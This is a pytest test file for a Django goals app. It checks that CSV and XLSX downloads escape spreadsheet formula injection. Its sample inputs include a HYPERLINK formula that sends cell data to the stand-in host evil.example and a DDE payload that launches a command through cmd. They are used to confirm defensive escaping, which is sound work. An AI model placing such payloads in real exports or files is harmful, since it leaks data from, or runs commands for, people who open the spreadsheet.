"""Downloads open in spreadsheets: no text from a goal may run there as a formula, in any export."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.goals.models import Goal, ProgressUpdate

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"点击")': '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    "\t=1+1": "'\t=1+1",
}


def csv_cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("title", list(HOSTILE))
def test_csv_list_download_keeps_formulas_as_text(client, world, title):
    Goal.objects.filter(pk=world.stations.pk).update(title=title, title_en=title, metric=title)
    cells = csv_cells(client.get("/goals/?_export=csv"))
    assert HOSTILE[title] in cells
    assert title not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]  # no cell starts a formula


@pytest.mark.parametrize("title", list(HOSTILE))
def test_xlsx_download_stores_formulas_as_text(client, world, title):
    Goal.objects.filter(pk=world.stations.pk).update(title=title, title_en=title, metric=title)
    sheet = load_workbook(io.BytesIO(client.get("/goals/?_export=xlsx").getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert title in [c.value for c in cells]  # the text itself, as text
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers  # figures stay numbers


def test_goal_data_csv_keeps_formulas_as_text(client, world):
    Goal.objects.filter(pk=world.stations.pk).update(metric="=1+1", unit="@SUM(A1)")
    ProgressUpdate.objects.filter(goal=world.stations).update(value=Decimal("-5"))
    cells = csv_cells(client.get(f"/goals/{world.stations.slug}/data.csv"))
    assert "'=1+1" in cells and "'@SUM(A1)" in cells
    assert "-5" in cells  # a negative figure is a number, not text
